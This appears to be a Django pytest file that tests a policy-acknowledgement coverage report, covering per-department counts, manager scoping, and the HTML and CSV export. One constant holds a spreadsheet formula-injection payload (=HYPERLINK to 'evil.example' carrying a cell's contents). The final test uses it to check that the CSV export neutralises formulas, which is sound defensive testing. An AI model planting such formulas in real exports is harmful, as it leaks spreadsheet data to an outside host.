"""Policy acknowledgement coverage: figures against a hand-counted world, the page, its CSV and scope."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.contrib.auth.models import Group

from accounts.tests.factories import DepartmentFactory, UserFactory, add_member, enrol_totp
from policies.choices import VersionState
from policies.models import Acknowledgement, Policy, PolicyVersion
from policies.tests.factories import published_policy
from reports import selectors
from reports.selectors import Scope
from reports.tests.factories import at

pytestmark = pytest.mark.django_db

MARCH = Scope(start=date(2026, 3, 1), end=date(2026, 3, 31))
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def ack(version, user, day):
    Acknowledgement.objects.create(version=version, user=user, acknowledged_at=at(day))


@pytest.fixture
def coverage_world(db):
    """Marketing: a, b. Sales: b (a manager there), c. No department: d (communications). e is inactive.

    "Social media" (everyone), current version 2: a acknowledged on 5 March, b on 10 January, c on 10 April
    (after the period); a's acknowledgement of the old version 1 does not count.
      Marketing: 2 people, 2 by 31 March, 1 in March, 0 missing, 100 %
      Sales: 2 people (b, c), 1 (b), 0, 1 missing, 50 %
      No department: 1 (d), 0, 0, 1, 0 %
    "Sales code" (Sales and communications), version 1: c acknowledged on 10 March.
      Marketing: b (a Sales member too) 1, 0, 0, 1, 0 %;  Sales: b, c 2, 1, 1, 1, 50 %
      No department: d 1, 0, 0, 1, 0 %
    """
    Group.objects.get_or_create(name="communications")
    marketing = DepartmentFactory(name="Marketing", slug="marketing")
    sales = DepartmentFactory(name="Sales", slug="sales")
    a = add_member(UserFactory(email="a@example.com"), marketing, "member")
    b = enrol_totp(add_member(add_member(UserFactory(email="b@example.com"), marketing, "member"), sales, "manager"))
    c = add_member(UserFactory(email="c@example.com"), sales, "member")
    d = enrol_totp(UserFactory(email="d@example.com", groups=["communications"]))
    add_member(UserFactory(email="e@example.com", is_active=False), marketing, "member")

    social = published_policy(slug="social-media")
    old = social.current_version
    v2 = PolicyVersion.objects.create(policy=social, number=2, body="v2", state=VersionState.PUBLISHED)
    social.current_version = v2
    social.save(update_fields=["current_version"])
    ack(old, a, "2026-02-01")
    ack(v2, a, "2026-03-05")
    ack(v2, b, "2026-01-10")
    ack(v2, c, "2026-04-10")

    code = published_policy(slug="sales-code")
    version = code.current_version
    version.audience_everyone = False
    version.audience_roles = ["communications"]
    version.save()
    version.audience_departments.set([sales])
    ack(version, c, "2026-03-10")
    return {"marketing": marketing, "sales": sales, "manager": b, "communications": d}


def test_coverage_per_policy_and_department_by_hand(coverage_world):
    table = selectors.acknowledgement_coverage(MARCH)

    assert table.rows == [
        ["Sales Code", "Marketing", 1, 0, 0, 1, 0.0],
        ["Sales Code", "Sales", 2, 1, 1, 1, 50.0],
        ["Sales Code", "No department", 1, 0, 0, 1, 0.0],
        ["Social Media", "Marketing", 2, 2, 1, 0, 100.0],
        ["Social Media", "Sales", 2, 1, 0, 1, 50.0],
        ["Social Media", "No department", 1, 0, 0, 1, 0.0],
    ]


def test_coverage_for_one_department_counts_its_members_only(coverage_world):
    scope = Scope(start=MARCH.start, end=MARCH.end, department_ids=frozenset({coverage_world["sales"].pk}))

    assert selectors.acknowledgement_coverage(scope).rows == [
        ["Sales Code", "Sales", 2, 1, 1, 1, 50.0],
        ["Social Media", "Sales", 2, 1, 0, 1, 50.0],
    ]


def test_coverage_later_in_the_year_counts_the_april_acknowledgement(coverage_world):
    scope = Scope(start=date(2026, 4, 1), end=date(2026, 4, 30), department_ids=frozenset({coverage_world["sales"].pk}))

    assert selectors.acknowledgement_coverage(scope).rows[1] == ["Social Media", "Sales", 2, 2, 1, 0, 100.0]


def test_coverage_page_chart_table_and_csv(client, coverage_world):
    client.force_login(coverage_world["communications"])

    html = client.get("/reports/acknowledgements/?start=2026-03-01&end=2026-03-31").content.decode()
    csv_rows = list(
        csv.reader(
            io.StringIO(
                b"".join(
                    client.get("/reports/acknowledgements/export.csv?start=2026-03-01&end=2026-03-31").streaming_content
                ).decode()
            )
        )
    )

    assert "<svg" in html and 'fill="url(#pattern-1)"' in html  # one pattern per policy, not colour alone
    assert "<td>50.0</td>" in html
    assert csv_rows[0] == [
        "policy",
        "department",
        "people",
        "acknowledged",
        "acknowledged in period",
        "missing",
        "coverage %",
    ]
    assert ["Social Media", "Marketing", "2", "2", "1", "0", "100.0"] in csv_rows


def test_a_manager_reads_coverage_of_their_department_only(client, coverage_world):
    client.force_login(coverage_world["manager"])

    body = b"".join(
        client.get("/reports/acknowledgements/export.csv?start=2026-03-01&end=2026-03-31").streaming_content
    ).decode()

    assert "Sales" in body and "Marketing" not in body and "No department" not in body


def test_a_formula_in_a_policy_title_stays_inert_in_the_coverage_csv(client, coverage_world):
    Policy.objects.filter(slug="sales-code").update(title=PAYLOAD)
    client.force_login(coverage_world["communications"])

    response = client.get("/reports/acknowledgements/export.csv?start=2026-03-01&end=2026-03-31")
    cells = [c for row in csv.reader(io.StringIO(b"".join(response.streaming_content).decode())) for c in row]

    assert "'" + PAYLOAD in cells and PAYLOAD not in cells
